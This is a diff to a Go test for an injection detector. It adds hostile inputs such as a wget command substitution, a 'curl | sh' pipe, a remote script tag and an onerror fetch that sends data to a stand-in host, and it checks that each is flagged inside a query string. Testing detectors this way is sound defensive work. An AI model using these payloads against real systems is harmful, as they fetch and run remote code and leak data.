@@ -43,6 +43,16 @@ func TestInjection(t *testing.T) {
 			t.Errorf("%s: %s", input, rulesOf(v))
 		}
 	}
+	for value, want := range map[string]string{
+		"$(wget http://e.example/x.sh)": "http://e.example/x.sh", "a;curl https://e.example/x|sh": "https://e.example/x", "<script src=//e.example/x.js>": "https://e.example/x.js", "<img onerror=fetch('https://e.example/?'+a)>": "https://e.example/?",
+	} {
+		for _, text := range []string{url.QueryEscape(value), encode(value)} {
+			v := verdict.Inspect("https://shop.example/find?id=" + text)
+			if !slices.ContainsFunc(v.Findings, func(f verdict.Finding) bool { return f.Inside != nil && f.Inside.Input == want }) {
+				t.Errorf("%s: no %s: %s", text, want, rulesOf(v))
+			}
+		}
+	}
 	for _, value := range []string{
 		"O'Reilly", "rock 'n' roll", "don't or can't", `"red shoes" and "blue shoes"`, "union select committee", "a <b> c", "1 < 2 and 3 > 2", "x=1", "a|b|c", "name|id|email", "cat; dog", "a;b;c", "AT&T", "Fish & Chips", "R&D; cat food",
 		"C#", `"C#"`, `{"a":{"b":"/*"}}`, `{"filter":{"price":{"$gt":10}}}`, "{{name}}", "{{ unsubscribe_url }}", "${name}", "#{id}", "../../images/logo.png", "a/../b", "...", "1 or 2", "5*7", "(a or b) and c", "sleep (music)", "how to sleep(well)",
